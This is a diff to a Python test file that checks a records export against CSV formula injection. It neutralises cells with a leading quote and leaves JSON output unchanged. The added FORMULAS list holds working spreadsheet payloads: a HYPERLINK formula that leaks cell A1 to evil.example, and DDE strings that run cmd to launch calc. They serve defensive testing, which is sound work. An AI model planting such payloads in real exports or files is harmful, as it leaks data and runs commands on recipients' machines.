@@ -218,3 +218,39 @@ def test_the_export_reads_records_set_based(member, compliance_user):
 
     # then the export asks the database as often
     assert len(many) == len(few)
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_no_csv_cell_is_written_as_a_formula(member, compliance_user):
+    # given a member whose name and records begin like spreadsheet formulas
+    member.name = "=1+1"
+    member.save(update_fields=["name"])
+    for formula in FORMULAS:
+        records_of(member, 1, content=formula)
+
+    _export, content, _filename = export(member, actor=compliance_user)
+
+    # then each such cell opens as text: a single quote before it, the rest kept
+    rows = csv_rows(content)
+    assert [row["content"] for row in rows] == ["'" + formula for formula in FORMULAS]
+    assert {row["owner"] for row in rows} == {"'=1+1"}
+    # and ordinary text is left alone
+    assert exports.neutralise_cell("工作记录 = 1") == "工作记录 = 1"
+    assert exports.neutralise_cell(3) == 3
+
+
+def test_the_json_export_keeps_the_values_as_they_are(member, compliance_user):
+    records_of(member, 1, content=FORMULAS[0])
+
+    _export, content, _filename = export(member, actor=compliance_user, format="json")
+
+    assert json.loads(content)[0]["content"] == FORMULAS[0]
